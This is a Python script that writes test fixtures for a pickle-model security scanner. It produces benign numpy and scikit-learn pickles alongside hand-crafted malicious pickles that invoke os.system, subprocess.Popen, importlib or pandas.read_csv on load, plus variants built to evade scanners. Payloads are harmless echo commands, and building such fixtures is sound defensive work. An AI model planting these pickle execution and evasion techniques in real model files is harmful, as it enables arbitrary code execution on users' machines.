#!/usr/bin/env python3
"""Writes the pickle fixtures of tests/data/models/ (see its README.md).

Benign files come from the real libraries; malicious ones are crafted byte by byte or
with __reduce__. Every payload is a harmless string (`echo aigis-test`) and nothing here
is ever unpickled. Run from the repository root with Python 3.11 and numpy,
scikit-learn and joblib installed:

    python3 scripts/make_model_corpus.py
"""
import collections
import io
import os
import pickle
import struct
import sys

import joblib
import numpy as np
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "data", "models")
CMD = "echo aigis-test"


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def benign():
    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
    for proto in (2, 4, 5):
        write(f"benign_numpy_p{proto}.pkl", pickle.dumps(arr, protocol=proto))
    rng = np.random.default_rng(0)
    x = rng.normal(size=(20, 3))
    y = (x[:, 0] > 0).astype(int)
    lr = LogisticRegression().fit(x, y)
    write("benign_sklearn_logreg.pkl", pickle.dumps(lr, protocol=4))
    pipe = Pipeline([("scale", StandardScaler()), ("lr", LogisticRegression())]).fit(x, y)
    write("benign_sklearn_pipeline.pkl", pickle.dumps(pipe, protocol=5))
    for name, obj in (("logreg", lr), ("pipeline", pipe)):
        buf = io.BytesIO()
        joblib.dump(obj, buf)
        write(f"benign_sklearn_{name}.joblib", buf.getvalue())
    state = collections.OrderedDict(
        [("layer.weight", np.ones((2, 2), dtype=np.float32)), ("layer.bias", np.zeros(2))]
    )
    write("benign_state_dict.pkl", pickle.dumps(state, protocol=2))


class Reduce:
    """An object whose pickle calls `fn(*args)` on load."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def sbu(s):
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def malicious():
    # os.system via GLOBAL + REDUCE, protocol 0 and 2 (made by pickle itself)
    write("mal_os_system_p0.pkl", pickle.dumps(Reduce(os.system, CMD), protocol=0))
    write("mal_os_system_p2.pkl", pickle.dumps(Reduce(os.system, CMD), protocol=2))
    # STACK_GLOBAL with strings from the memo (protocol 4): "os" and "system" are
    # memoized, then fetched back before STACK_GLOBAL
    write(
        "mal_stack_global_memo_p4.pkl",
        b"\x80\x04" + sbu("os") + b"\x94" + sbu("system") + b"\x94" + b"0" + b"0"
        + b"h\x00h\x01\x93" + sbu(CMD) + b"\x85R.",
    )
    # builtins.getattr(importlib.import_module("os"), "system")("echo aigis-test")
    write(
        "mal_getattr_chain.pkl",
        b"\x80\x02cbuiltins\ngetattr\ncimportlib\nimport_module\n" + sbu("os") + b"\x85R"
        + sbu("system") + b"\x86R" + sbu(CMD) + b"\x85R.",
    )
    # importlib.import_module("os") alone
    write("mal_importlib.pkl", pickle.dumps(Reduce(__import__("importlib").import_module, "os"), protocol=2))
    # INST and OBJ forms
    write("mal_inst.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.")
    write("mal_obj.pkl", b"\x80\x02(cos\nsystem\n" + sbu(CMD) + b"o.")
    # subprocess.Popen via NEWOBJ
    write("mal_popen_newobj.pkl", b"\x80\x02csubprocess\nPopen\n" + sbu(CMD) + b"\x85\x81.")
    # torch.utils.collect_env.run (crafted: torch is not needed)
    write("mal_torch_collect_env.pkl", b"\x80\x02ctorch.utils.collect_env\nrun\n" + sbu(CMD) + b"\x85R.")
    # pandas.read_csv on a URL (exfiltration / remote read)
    write("mal_pandas_read_csv.pkl", b"\x80\x02cpandas\nread_csv\n" + sbu("https://example.invalid/x.csv") + b"\x85R.")
    # a nested pickle: pickle.loads(<a pickle that calls os.system>)
    inner = pickle.dumps(Reduce(os.system, CMD), protocol=2)
    write("mal_nested_loads.pkl", pickle.dumps(Reduce(pickle.loads, inner), protocol=3))
    # EXT1 with a code nobody registered, then called
    write("mal_ext_unregistered.pkl", b"\x80\x02\x82\x2a" + sbu(CMD) + b"\x85R.")
    # a second pickle after a benign one (a file may hold several; scanners that stop at
    # the first STOP miss it)
    write("mal_second_pickle.pkl", pickle.dumps({"w": 1}, protocol=2) + pickle.dumps(Reduce(os.system, CMD), protocol=2))
    # module name with a trailing space (a scanner matching `os` exactly misses it)
    write("mal_spaced_module.pkl", b"cos \nsystem\n(S'" + CMD.encode() + b"'\ntR.")
    # STACK_GLOBAL whose module is a protocol-0 STRING with an escape: 'o\x73' is "os"
    write("mal_escaped_stack_global.pkl", b"S'o\\x73'\nS'system'\n\x93(S'" + CMD.encode() + b"'\ntR.")
    # truncated: os.system pickle cut inside its argument
    full = pickle.dumps(Reduce(os.system, CMD), protocol=2)
    write("bad_truncated.pkl", full[: len(full) - 8])
    # garbage after STOP
    write("bad_trailing_garbage.pkl", pickle.dumps([1, 2, 3], protocol=2) + b"\x00\xffgarbage")
    # BINBYTES8 declaring an absurd length (must not be allocated)
    write("bad_binbytes8_huge.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"abc.")
    # deep nesting: 5000 MARKs then TUPLE/TUPLE1 nesting
    write("bad_deep_marks.pkl", b"\x80\x02" + b"(" * 5000 + b"N" + b"\x85" * 200 + b".")
    # memo GET of an index that was never PUT
    write("bad_memo_unset.pkl", b"\x80\x02h\x07.")


def main():
    os.makedirs(OUT, exist_ok=True)
    benign()
    malicious()
    total = sum(os.path.getsize(os.path.join(OUT, f)) for f in os.listdir(OUT))
    print(f"wrote {len(os.listdir(OUT))} files, {total} bytes", file=sys.stderr)


if __name__ == "__main__":
    main()
